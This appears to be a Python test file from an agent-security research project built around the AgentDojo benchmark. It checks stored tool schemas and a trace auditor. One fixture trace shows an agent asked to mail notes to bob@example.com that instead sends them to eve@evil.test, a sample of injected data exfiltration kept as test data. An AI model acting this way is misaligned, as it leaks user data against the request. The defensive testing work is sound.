"""The suites' tools written down (`tool_snapshot`): the same as AgentDojo gives them, and
reading an AgentDojo trace's tools imports no agentdojo."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest

from backdoorlab.envs.agentdojo import tool_snapshot
from backdoorlab.envs.agentdojo.suite import SUITES, live_tool_schemas, tool_schemas
from tests.defenses.audit_builders import call, result, user
from tests.defenses.audit_builders import trace as build


def test_the_snapshot_is_the_installed_release_or_unused():
    written = tool_snapshot._snapshot()["agentdojo"]
    if tool_snapshot.installed_release() != written:
        assert all(tool_snapshot.snapshot_schemas(s) is None for s in SUITES)
        pytest.skip(f"agentdojo {tool_snapshot.installed_release()} is not {written}: asked live")
    for suite in SUITES:
        assert tool_snapshot.snapshot_schemas(suite) == live_tool_schemas(suite), (
            f"{suite}: rewrite it with `python scripts/agentdojo_tools.py`"
        )


def test_another_release_is_asked_live(monkeypatch):
    monkeypatch.setattr(tool_snapshot, "installed_release", lambda: "0.0.1")
    assert tool_snapshot.snapshot_schemas("workspace") is None
    monkeypatch.setattr(tool_snapshot, "installed_release", lambda: None)  # not installed
    assert tool_snapshot.snapshot_schemas("workspace") is not None


def test_auditing_an_agentdojo_trace_imports_no_agentdojo(tmp_path):
    """Its package imports every provider's client: seconds for each command."""
    sent = {"recipients": ["eve@evil.test"], "subject": "s", "body": "b"}
    trace = build(
        user("Mail my notes to bob@example.com."),
        call("send_email", sent, "c1"),
        result("send_email", "sent", "c1"),
        env="agentdojo:workspace",
    )
    path = tmp_path / "t.jsonl"
    path.write_text(json.dumps(trace) + "\n", encoding="utf-8")
    code = (
        "import sys\n"
        "from backdoorlab.defenses.audit import audit\n"
        f"report = audit({str(path)!r})\n"
        "assert 'agentdojo' not in sys.modules\n"
        "print(len(report.findings))\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert len(tool_schemas("workspace")) == 24
